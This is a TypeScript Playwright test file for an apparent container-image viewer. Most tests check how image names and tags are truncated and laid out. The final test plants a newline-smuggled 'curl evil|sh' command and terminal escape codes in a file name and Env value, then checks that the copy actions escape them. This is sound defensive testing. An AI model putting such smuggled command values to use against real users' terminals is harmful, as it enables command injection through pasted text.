import { file, pax, tar } from '../../support/tar-builder.ts';
import { dockerArchive, ociLayout } from '../support/images.ts';
import { expect, type LayerscopeWindow, test } from '../support/window.ts';

const LAYERS = [{ createdBy: 'COPY a /a', tar: tar(file('a', 'a')) }];

async function openNamed(win: LayerscopeWindow, archive: string, name: string) {
  await win.drop(await win.write(archive, dockerArchive(LAYERS, { name })));
  const last = name.slice(name.lastIndexOf('/') + 1);
  await win.page.getByRole('navigation', { name: 'Library' }).locator('button[data-archive]').filter({ hasText: last }).click();
  await expect(titleButton(win)).toHaveAccessibleName(`Image: ${name}, linux/amd64`);
}

const titleButton = ({ page }: LayerscopeWindow) => page.getByRole('banner').getByRole('button', { name: /^Image: / });

/** Returns the drawn parts of a name: their text, their width, and the width that all of the text would take. */
function drawnParts(win: LayerscopeWindow, place: 'banner' | 'navigation') {
  const name = place === 'banner' ? titleButton(win) : win.page.getByRole('navigation', { name: 'Library' });
  return name
    .locator('[data-text]:not([data-text=""])')
    .evaluateAll((parts) => parts.map((part) => ({ text: part.getAttribute('data-text'), is: part.clientWidth, full: part.scrollWidth })));
}

test('a short name is drawn in one piece, without a gap', { tag: '@page' }, async ({ win }) => {
  for (const name of ['x:1', 'box:9']) {
    await openNamed(win, `${name.slice(0, 1)}.tar`, name);
    expect((await drawnParts(win, 'banner')).map(({ text }) => text)).toEqual([name]);
  }
});

test('the title shows the last part of a name with its tag, uncut if it fits', { tag: '@page' }, async ({ win }) => {
  await openNamed(win, 'web.tar', 'sample/web-api:1.8');
  const parts = await drawnParts(win, 'banner');
  expect(parts.map(({ text }) => text).join('')).toBe('web-api:1.8');
  for (const { is, full } of parts) expect(is).toBeGreaterThanOrEqual(full);
  await expect(titleButton(win).getByTitle('sample/web-api:1.8')).toBeVisible();
});

test('a long name keeps the beginning of its repository and all of its tag', { tag: '@page' }, async ({ win }) => {
  await openNamed(win, 'long.tar', 'registry.example.com:5000/team/authentication-on-the-service-platform:2.14.3-rc1');
  const [repository, tag, ...more] = await drawnParts(win, 'banner');
  expect(more).toEqual([]);
  expect([repository?.text, tag?.text]).toEqual(['authentication-on-the-service-platform', ':2.14.3-rc1']);
  expect(tag?.is).toBeGreaterThanOrEqual(tag?.full ?? 0);
  expect(repository?.is).toBeGreaterThan(80);
  const [listed, listedTag] = await drawnParts(win, 'navigation');
  // The colon shows that the tag follows on the next line.
  expect([listed?.text, listedTag?.text]).toEqual(['authentication-on-the-service-platform:', '2.14.3-rc1']);
  expect(listedTag?.is).toBeGreaterThanOrEqual(listedTag?.full ?? 0);
});

test('in the library, a file’s name comes before the platform', { tag: '@page' }, async ({ win }) => {
  await openNamed(win, 'a.tar', 'acme/short:1');
  await openNamed(win, 'nightly-frontend.tar', 'acme/long:1');
  await win.page.getByRole('separator', { name: 'Library width' }).press('ArrowRight');
  const items = win.page.getByRole('navigation', { name: 'Library' }).getByRole('listitem');
  const platform = (at: number) => items.nth(at).getByText('linux/amd64');
  const isInSight = (at: number) =>
    platform(at).evaluate((element) => {
      const { x, y, height } = element.getBoundingClientRect();
      return element.contains(document.elementFromPoint(x + 20, y + height / 2));
    });
  expect([await isInSight(0), await isInSight(1)]).toEqual([true, false]);
  const file = items.nth(1).locator('[data-text$=".tar"]');
  expect(await file.evaluate((element) => element.scrollWidth <= element.clientWidth)).toBe(true);
  await expect(items.nth(1).getByRole('button').first()).toHaveAttribute('title', /nightly-frontend\.tar · .* · linux\/amd64$/);
});

test('two images of the same name in the library show their platforms', { tag: '@page' }, async ({ win }) => {
  const { page } = win;
  for (const architecture of ['amd64', 'arm64']) {
    await win.drop(await win.write(`nightly-frontend-${architecture}.tar`, dockerArchive(LAYERS, { name: 'acme/same:1', architecture })));
    await expect(titleButton(win)).toHaveAccessibleName(`Image: acme/same:1, linux/${architecture}`);
  }
  const library = page.getByRole('navigation', { name: 'Library' });
  for (const platform of ['linux/amd64', 'linux/arm64']) {
    const text = library.getByText(platform);
    expect(await text.evaluate((element) => element.scrollWidth - element.clientWidth)).toBeLessThanOrEqual(0);
    const isInSight = await text.evaluate((element) => {
      const { right, y, height } = element.getBoundingClientRect();
      return element.contains(document.elementFromPoint(right - 4, y + height / 2));
    });
    expect(isInSight, platform).toBe(true);
  }
  await library.getByRole('button', { name: 'Close nightly-frontend-arm64.tar' }).click();
  await expect(library.getByRole('button', { name: /^Close / })).toHaveCount(1);
});

test('a truncated name leaves no gap at any window width', { tag: '@page' }, async ({ win }) => {
  await openNamed(win, 'long.tar', 'registry.example.com:5000/team/authentication-on-the-service-platform:2.14.3-rc1');
  const { page } = win;
  const name = titleButton(win).locator('[title]').first();
  for (let width = 600; width <= 1400; width += 50) {
    await page.setViewportSize({ width, height: 700 });
    const drawn = await name.evaluate((element) => {
      const cut = element.getAttribute('data-cut');
      const text = document.createElement('span');
      text.textContent = cut ?? element.textContent;
      text.style.cssText = `position: absolute; white-space: pre; font: ${getComputedStyle(element).font}`;
      document.body.append(text);
      const wide = text.getBoundingClientRect().width;
      text.remove();
      return { cut, left: element.getBoundingClientRect().width - wide };
    });
    // Less space is left than the next letter would take.
    expect(drawn.left, `${width} px: ${drawn.cut}`).toBeLessThan(drawn.cut === null ? 1 : 13);
    expect(drawn.left, `${width} px: ${drawn.cut}`).toBeGreaterThan(-1);
    if (drawn.cut !== null) expect(drawn.cut).toMatch(/^a.*….*-rc1$/);
  }
  await page.setViewportSize({ width: 600, height: 700 });
  await expect(name).toHaveAttribute('data-cut', /…/);
});

test('an image whose only name is a tag gets the name of its archive', { tag: '@page' }, async ({ win }) => {
  const { page } = win;
  const members = [...ociLayout(LAYERS, '1')].map(([name, content]) => file(name, content));
  await win.drop(await win.write('dpkg.tar', tar(...members)));
  await expect(page.getByRole('heading', { name: 'dpkg:1' })).toBeAttached();
  await expect(page).toHaveTitle(/dpkg:1/);
  const name = page.getByRole('region', { name: 'Details' }).getByRole('definition').filter({ hasText: 'dpkg:1' });
  await expect(name.first()).toBeVisible();
  await page.getByRole('radio', { name: 'Filesystem' }).click();
  const crumb = page.getByRole('navigation', { name: 'Location' }).getByRole('button', { name: 'dpkg:1' });
  expect((await crumb.boundingBox())?.width).toBeGreaterThan(30);
});

test('a name in the library has the whole line, the size is below it, and selecting doesn’t break the name', { tag: '@page' }, async ({
  win,
}) => {
  await openNamed(win, 'nightly.tar', 'acme/nightly:2025-11-25-alpine');
  const button = win.page.getByRole('navigation', { name: 'Library' }).locator('button[data-archive]');
  await expect(button.locator('[data-cut]').filter({ hasText: 'alpine' })).toHaveCount(0);
  const tag = await button.locator('[data-text$="alpine"]').last().boundingBox();
  const size = await button.getByTitle(/: [\d,]+ bytes$/).boundingBox();
  expect(size?.y).toBeGreaterThanOrEqual((tag?.y ?? 0) + (tag?.height ?? 0) - 2);
  expect((tag?.x ?? 0) + (tag?.width ?? 0)).toBeGreaterThan(size?.x ?? 0);
  // A short name is on one line with no size next to it, and has the same width whether selected or not.
  const short = button.last();
  const measures = async () => {
    const words = short.locator('[data-text]:not([data-text=""])');
    const widths = await words.evaluateAll((parts) => parts.map((part) => part.getBoundingClientRect().width));
    return { height: (await short.boundingBox())?.height, widths };
  };
  await openNamed(win, 'web.tar', 'acme/web-api-server:1.8');
  await expect(short).toHaveAttribute('aria-current', 'true');
  const selected = await measures();
  expect(selected.height).toBeLessThan(48);
  await button.first().click();
  await expect(short).not.toHaveAttribute('aria-current', 'true');
  expect(await measures()).toEqual(selected);
});

test('the library cuts names and archives without a tag in the middle', { tag: '@page' }, async ({ win }) => {
  const { page } = win;
  await win.drop(await win.write('an-archive-with-a-very-long-name-of-release-2.14.3.tar', dockerArchive(LAYERS)));
  const library = page.getByRole('navigation', { name: 'Library' });
  for (const end of ['14.3.tar', 'x/amd64']) await expect(library).toContainText(end);
  const ends = library.locator('button[data-archive] [data-text$="14.3.tar"]');
  expect(await ends.count()).toBeGreaterThan(0);
  for (const each of await ends.all()) {
    expect(await each.evaluate((element) => element.scrollWidth - element.clientWidth)).toBeLessThanOrEqual(0);
    await expect(each).toBeInViewport();
  }
});

test('in a comparison’s details, neither a tag nor a version is broken', { tag: '@page' }, async ({ win }) => {
  const { page } = win;
  const image = (tag: string) => dockerArchive(LAYERS, { name: `registry.example.com/platform/team/base-files:${tag}` });
  await win.drop(await win.write('a.tar', image('12.4-deb12u1')));
  await expect(page.getByRole('treegrid')).toBeVisible();
  await win.dropRight(await win.write('b.tar', image('12.4-deb12u5-with-extensions.11-of-the-platform')));
  const names = page.getByRole('region', { name: 'Details' }).getByRole('row', { name: /^Name/ }).getByRole('definition');
  await expect(names).toHaveCount(2);
  const linesOf = (side: number) =>
    names.nth(side).evaluate((element) => {
      const lines = new Map<number, string>();
      const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
        for (const [at, letter] of [...(node.textContent ?? '')].entries()) {
          const range = document.createRange();
          range.setStart(node, at);
          range.setEnd(node, at + 1);
          const y = Math.round(range.getBoundingClientRect().y);
          lines.set(y, (lines.get(y) ?? '') + letter);
        }
      }
      return [...lines.values()];
    });
  // The part with the tag, or else the tag, has its own line.
  expect((await linesOf(0)).slice(-2).join(' ')).toMatch(/^(platform\/team\/ base-files:12\.4-deb12u1|.*base-files: 12\.4-deb12u1)$/);
  expect(await linesOf(1)).toContain('base-files:');
});

test('what is copied from an image can’t end a command in a terminal, or look like something else there', async ({ win }) => {
  const name = 'a\ncurl evil|sh\n\u202E\u001B[2J';
  const layer = { createdBy: 'RUN a \u001B[2J\nb', tar: tar(pax({ path: `etc/${name}` }), file('etc/short', 'x')) };
  await win.drop(await win.write('odd.tar', dockerArchive([layer], { name: 'acme/odd:1', config: { Env: [`A=${name}`] } })));
  const { page } = win;
  // Record what the page writes to the clipboard. Reading the clipboard itself needs a permission, which Electron doesn't grant.
  await page.evaluate(() => {
    const copied: string[] = [];
    Object.assign(window, { copied });
    Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (text: string) => void copied.push(text) } });
  });
  const last = () => page.evaluate(() => (window as unknown as { copied: string[] }).copied.at(-1));
  const escaped = 'a\\x0Acurl evil|sh\\x0A\\u202E\\x1B[2J';
  const details = page.getByRole('region', { name: 'Details' });
  await details.getByRole('button', { name: /^Copy Env/ }).click();
  await expect.poll(last).toBe(`A=${escaped}`);
  const row = page.getByRole('row', { name: /curl evil/ });
  await row.click();
  await page.keyboard.press('c');
  await expect.poll(last).toBe(`etc/${escaped}`);
  await row.click({ button: 'right' });
  await page.getByRole('menuitem', { name: 'Copy name' }).click();
  await expect.poll(last).toBe(escaped);
  await row.click({ button: 'right' });
  await page.getByRole('menuitem', { name: 'Copy as JSON' }).click();
  await expect.poll(async () => JSON.parse((await last()) ?? 'null')?.path).toBe(`etc/${escaped}`);
  for (const unsafe of ['\u202E', '\u001B']) expect(await last()).not.toContain(unsafe);
  await page.getByRole('button', { name: /^Layer 0 / }).click({ button: 'right' });
  await page.getByRole('menuitem', { name: 'Copy command' }).click();
  await expect.poll(last).toBe('RUN a \\x1B[2J\nb');
});
